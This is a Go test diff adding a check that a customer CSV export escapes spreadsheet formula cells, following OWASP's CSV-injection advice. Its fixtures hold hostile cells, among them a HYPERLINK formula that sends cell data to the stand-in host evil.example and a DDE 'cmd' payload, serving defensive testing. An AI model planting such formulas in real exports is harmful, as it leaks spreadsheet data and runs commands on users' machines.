@@ -2,15 +2,18 @@ package main
 
 import (
 	"context"
+	"encoding/csv"
 	"io"
 	"net/http"
 	"net/url"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/reins-dev/reins"
 	"github.com/reins-dev/reins/reinstest"
 )
 
@@ -299,6 +302,55 @@ func TestResultRetention(t *testing.T) {
 		}
 		if _, err := os.Stat(filepath.Join(m.Config.BlobDir(), "exports", second)); !os.IsNotExist(err) {
 			t.Errorf("the sweep left an expired result's files on disk (%v)", err)
+		}
+	})
+}
+
+// TestFormulaInjection checks OWASP's CSV-injection advice on both export paths (the Go
+// writer on SQLite, Postgres's COPY): a cell starting with = + - @ tab or CR is prefixed
+// with ', unless escape_formulas=false asks for the raw cells.
+func TestFormulaInjection(t *testing.T) {
+	t.Parallel()
+	forEachKind(t, func(t *testing.T, kind reinstest.Kind) {
+		m := startMain(t, kind)
+		at := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
+		hostile := []reins.Customer{
+			{FirstName: `=HYPERLINK("http://evil.example/?x="&A1,"x")`, LastName: "+cmd|' /C calc'!A0", Address: "@SUM(1)",
+				Email: "a@example.com", Age: 30, Company: "-2+3"},
+			{FirstName: "\tTab", LastName: "\rCR", Address: "1 Main St", Email: "b@example.com", Age: 31, Company: "Acme"},
+		}
+		if err := m.Backend.SeedCustomers(context.Background(), int64(len(hostile)), func(i int64) reins.Customer {
+			c := hostile[i]
+			c.CreatedAt = at.Add(time.Duration(i) * time.Minute)
+			return c
+		}); err != nil {
+			t.Fatal(err)
+		}
+		c := newClient(t, m.Addr())
+		exportCSV := func(query string) [][]string {
+			r := c.get("/api/v1/export/?date_gte=2020-01-01&date_lte=2020-01-01" + query)
+			expectOK(t, r)
+			id := r.json(t)["job_id"].(string)
+			c.waitStatus(id, "COMPLETED")
+			rows, err := csv.NewReader(strings.NewReader(c.download(id))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			return rows[1:]
+		}
+		escaped := exportCSV("")
+		want := [][]string{
+			{`'=HYPERLINK("http://evil.example/?x="&A1,"x")`, "'+cmd|' /C calc'!A0", "'@SUM(1)", "a@example.com", "30", "'-2+3"},
+			{"'\tTab", "'\rCR", "1 Main St", "b@example.com", "31", "Acme"},
+		}
+		if !slices.EqualFunc(escaped, want, slices.Equal) {
+			t.Errorf("escaped export:\n got %q\nwant %q", escaped, want)
+		}
+		raw := exportCSV("&escape_formulas=false")
+		for i, h := range hostile {
+			if raw[i][0] != h.FirstName || raw[i][1] != h.LastName || raw[i][5] != h.Company {
+				t.Errorf("escape_formulas=false row %d: %q, want the cells as stored", i, raw[i])
+			}
 		}
 	})
 }
